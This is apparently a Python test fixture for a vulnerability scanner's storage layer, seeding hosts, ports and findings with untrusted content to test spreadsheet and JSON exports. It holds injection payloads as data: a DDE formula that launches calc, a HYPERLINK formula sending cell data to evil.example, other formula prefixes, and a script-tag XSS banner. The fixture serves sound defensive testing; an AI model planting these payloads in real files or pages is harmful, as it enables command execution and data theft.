"""Content from scanned hosts that a spreadsheet or a JSON consumer must not trust: cells that
start like formulas, quotes, commas, new lines, markup, an IPv6 node, a UDP port, a finding with
two CVEs. Stored through the repository write functions; findings are scored by
model.finding.scoring, as a scan stores them.

    node 1 198.18.0.1       443/TCP  service product "=cmd|' /C calc'!A0", banner "<script>…"
    node 2 2001:db8::1      53/UDP   service domain
    finding 1 exploit 900 (Medium, title "=HYPERLINK(…)")  198.18.0.1:443/TCP    "+1+1"
    finding 2 exploit 901 (High, 2 CVEs, CVSS 9.8)      198.18.0.1:443/TCP    "-2 …" (quotes, commas)
    finding 3 exploit 902 (Low)                         [2001:db8::1]:53/UDP  "@SUM(A1)"
    finding 4 exploit 902 (Low), subid 1                [2001:db8::1]:53/UDP  tab, "TAB"
    finding 5 exploit 902 (Low), subid 2                [2001:db8::1]:53/UDP  carriage return, "CR"
"""

from sqlalchemy import Connection, Engine

from aucote.model.exploit import Exploit
from aucote.model.finding import Finding, scoring
from aucote.model.status import CheckStatus, RiskLevel, ScanStatus
from aucote.model.target import Service
from aucote.storage.repository import exploits, nodes, port_scans, scans, security_scans
from aucote.storage.repository import vulnerabilities as findings
from aucote.storage.repository.records import NewPortScan, NewSecurityScan, NewVulnerability

TCP, UDP = 6, 17
V4, V6 = "198.18.0.1", "2001:db8::1"
SCAN, START = 1, 1700000000.0
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_PRODUCT = "=cmd|' /C calc'!A0"
BANNER = "<script>alert(1)</script>"
QUOTED = '-2 "quoted", with commas\nand a second line'
EXPLOITS = [
    Exploit(900, "nmap", "formula-title", FORMULA_TITLE, "", RiskLevel.MEDIUM),
    Exploit(901, "aucote-cve", "cve-pair", "Two CVEs", "Apache path traversal.", RiskLevel.HIGH,
            cve=("CVE-2021-41773", "CVE-2021-42013"), cvss=9.8),
    Exploit(902, "nmap", "dns-text", "DNS text", "", RiskLevel.LOW),
]  # fmt: skip
# security scan id, exploit index, node, port, protocol, findings
CHECKS = [
    (1, 0, 1, 443, TCP, [Finding("+1+1")]),
    (2, 1, 1, 443, TCP, [Finding(QUOTED)]),
    (3, 2, 2, 53, UDP, [Finding("@SUM(A1)"), Finding("\tTAB", 1), Finding("\rCR", 2)]),
]


def add_hostile_rows(engine: Engine) -> None:
    """Store the rows above in one transaction."""
    with engine.begin() as connection:
        exploits.sync_exploits(connection, EXPLOITS)
        nodes.add_node(connection, V4, START, 1)
        nodes.add_node(connection, V6, START, 2)
        scans.start_scan(connection, "tcp", TCP, START, scan_id=SCAN)
        scans.end_scan(connection, SCAN, START + 60, ScanStatus.DONE)
        _ports(connection)
        for row_id, index, node, port, protocol, found in CHECKS:
            _check(connection, row_id, EXPLOITS[index], (node, port, protocol), found)


def _ports(connection: Connection) -> None:
    https = Service("https", FORMULA_PRODUCT, "1.0", banner=BANNER)
    port_scans.add_port_scans(
        connection,
        [
            NewPortScan(SCAN, 1, 443, TCP, START + 1, https),
            NewPortScan(SCAN, 2, 53, UDP, START + 2, Service("domain")),
        ],
    )


def _check(
    connection: Connection, row_id: int, exploit: Exploit, place: tuple[int, int, int], found: list[Finding]
) -> None:
    node, port, protocol = place
    end = START + 10 + row_id
    security_scans.add_security_scans(
        connection,
        [NewSecurityScan(scan_id=SCAN, exploit_id=exploit.id, node_id=node, port=port, protocol=protocol,
                         start=end - 1, end=end, status=CheckStatus.DONE, id=row_id)],
    )  # fmt: skip
    findings.add_vulnerabilities(connection, [_finding(row_id, exploit, place, end, f) for f in found])


def _finding(
    row_id: int, exploit: Exploit, place: tuple[int, int, int], time: float, finding: Finding
) -> NewVulnerability:
    score = scoring(finding, exploit)
    node, port, protocol = place
    return NewVulnerability(
        security_scan_id=row_id, scan_id=SCAN, exploit_id=exploit.id, node_id=node, port=port,
        protocol=protocol, output=finding.output, time=time, subid=finding.subid, cve=score.cve,
        cvss=score.cvss, risk_level=score.risk_level.value,
    )  # fmt: skip
